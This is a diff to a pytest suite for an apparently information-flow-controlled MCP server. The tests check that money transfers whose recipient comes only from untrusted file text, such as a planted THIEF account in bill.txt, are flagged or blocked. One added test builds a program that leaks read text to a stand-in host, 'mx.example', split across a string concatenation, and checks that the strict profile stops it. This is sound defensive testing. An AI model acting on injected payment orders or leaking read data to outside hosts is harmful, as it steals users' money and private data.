@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import asyncio
 import json
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
 from typing import Any
 
 import pytest
@@ -11,10 +13,13 @@ from mcp.types import ElicitResult
 
 from sealab.server.base.settings import Profile, Switch
 from sealab.server.governance.caller import LOCAL
+from sealab.server.use_cases.runs.resume import resume
 
+from ...waiting import until
 from ..command_line import sealab
+from ..journal.test_resumed_runs import lease_ends
 from ..upstream_tools.test_approvals import User, yes
-from .bank import ALICE, HEIR, LANDLORD, THIEF, Bank, bank, sources
+from .bank import ALICE, HEIR, LANDLORD, ORPHAN, THIEF, WIDOW, Bank, bank, sources
 
 __all__ = ["bank"]
 
@@ -57,7 +62,7 @@ async def test_a_party_of_a_text_is_asked_about_by_itself_in_later_runs_too(bank
             assert sources(await caller.run(**given)) == {"recipient": "text", "amount": "program"}
     assert bank.paid() == [ALICE, THIEF, THIEF]
     assert len(user.asked) == 2
-    assert f'recipient "{THIEF}" stands only in the text of bank.read_file("bill.txt"), line 4' in user.asked[0]
+    assert f'recipient "{THIEF}" stands only in the text of bank.read_file("bill.txt"), line 4\n' in user.asked[0]
 
 
 async def test_a_no_keeps_one_party_from_being_paid_and_not_the_other(bank: Bank) -> None:
@@ -100,6 +105,14 @@ async def test_only_strict_stops_a_read_that_carries_a_value_out(bank: Bank, pro
     assert "writes" not in report
     assert report["success"] is (profile is Profile.CAREFUL)
     assert len(bank.paid()) == (profile is Profile.CAREFUL)
+
+
+async def test_strict_stops_the_reading_of_a_resource_that_carries_a_value_out(bank: Bank) -> None:
+    program = READ + "read_resource('bank', f'https://m' + f'x.example/?seen={text[:4]}')\n"
+    for profile in (Profile.CAREFUL, Profile.STRICT):
+        async with bank.caller(profile=profile) as caller:
+            report = await caller.run(program)
+        assert ("only in the text of bank.read_file" in str(report["error"])) is (profile is Profile.STRICT)
 
 
 async def test_a_text_that_gives_orders_is_marked_in_the_report_and_in_the_next_question(bank: Bank) -> None:
@@ -147,6 +160,61 @@ async def test_a_server_that_starts_again_knows_from_the_journal_what_was_read(b
     assert 'only in the text of bank.read_file("letter.txt")' in report["error"]["message"]
 
 
+@asynccontextmanager
+async def run_elsewhere(
+    bank: Bank, before: str, after: str
+) -> AsyncIterator[tuple[asyncio.Event, asyncio.Task[dict[str, Any]]]]:
+    """Give a run of a caller with a conversation of its own, which waits for its user until the event is set."""
+    is_asked, goes_on = asyncio.Event(), asyncio.Event()
+
+    async def user(_context: object, _question: Any) -> ElicitResult:
+        is_asked.set()
+        await goes_on.wait()
+        return yes()
+
+    asking = "name = 'send_money'\nawait tools.bank[name](recipient='GB2', amount=1)\n"
+    async with bank.caller(user) as caller:
+        run = asyncio.create_task(caller.run(before + asking + after))
+        await is_asked.wait()
+        await bank.app.journal.stored()
+        try:
+            yield goes_on, run
+        finally:
+            goes_on.set()
+            await run
+
+
+async def test_a_run_that_goes_on_here_brings_along_what_it_had_read(bank: Bank) -> None:
+    async with run_elsewhere(bank, "await tools.bank.read_file(path='letter.txt')\n", ""):
+        run_id = bank.app.journal.store().runs(limit=1)[0].run_id
+        lease_ends(bank.app.home.root, run_id)
+        async with bank.caller() as caller:
+            assert "bank.send_money" in str((await resume(bank.app.executor, run_id)).report["error"])
+            report = await caller.run(pay(repr(HEIR)))
+    assert 'only in the text of bank.read_file("letter.txt")' in report["error"]["message"]
+
+
+async def test_what_another_server_reads_later_in_a_run_is_known_too(bank: Bank) -> None:
+    later = "await tools.bank.read_file(path='notice.txt')"
+    async with run_elsewhere(bank, READ, later) as (goes_on, run), bank.caller(is_new=False) as caller:
+        assert sources(await caller.run(pay(repr(THIEF))))["recipient"] == "text"
+        assert sources(await caller.run(pay(repr(WIDOW))))["recipient"] == "program"
+        goes_on.set()
+        assert (await run)["error"] is None
+        await bank.app.journal.stored()
+        bank.app.executor.conversations.of(LOCAL.scope)._caught_up_until = 0.0  # it looks every half minute
+        assert sources(await caller.run(pay(repr(WIDOW))))["recipient"] == "text"
+
+
+async def test_a_run_that_is_broken_off_here_is_read_from_the_journal_again(bank: Bank) -> None:
+    async with bank.caller() as caller:
+        known = bank.app.executor.conversations.of(LOCAL.scope).known_runs
+        run = asyncio.create_task(caller.run(READ + "import asyncio\nawait asyncio.sleep(20)"))
+        await until(lambda: bool(known))
+        run.cancel()
+        await until(lambda: not known)
+
+
 async def test_what_is_erased_while_a_server_is_at_work_is_soon_not_known_there(bank: Bank) -> None:
     home = str(bank.app.home.root)
     async with bank.caller() as caller:
@@ -180,11 +248,15 @@ async def test_what_a_server_labels_as_untrusted_is_text_even_in_fields_and_the_
     held = place.read_text()
     program = "people = await tools.bank.contacts()\n" + pay("people['contacts'][0]['account']")
     async with bank.caller() as caller:
-        place.write_text(json.dumps(json.loads(held) | {"meta": {"ifc": {"integrity": "untrusted"}}}))
+        contacts = {"contacts": [{"name": "Orphan", "account": ORPHAN}]}
+        place.write_text(json.dumps(json.loads(held) | contacts | {"meta": {"ifc": {"integrity": "untrusted"}}}))
         try:
             answer = await caller.call("execute_code", code=program)
         finally:
             place.write_text(held)
+    await bank.app.journal.stored()
+    async with bank.caller(is_new=False) as caller:  # and the journal has it
+        assert sources(await caller.run(pay(repr(ORPHAN))))["recipient"] == "text"
     assert answer.meta["ifc"] == {"integrity": "untrusted"}  # type: ignore[index]
     assert sources(answer.structured_content)["recipient"] == "text"  # type: ignore[arg-type]
     assert bank.paid() == []
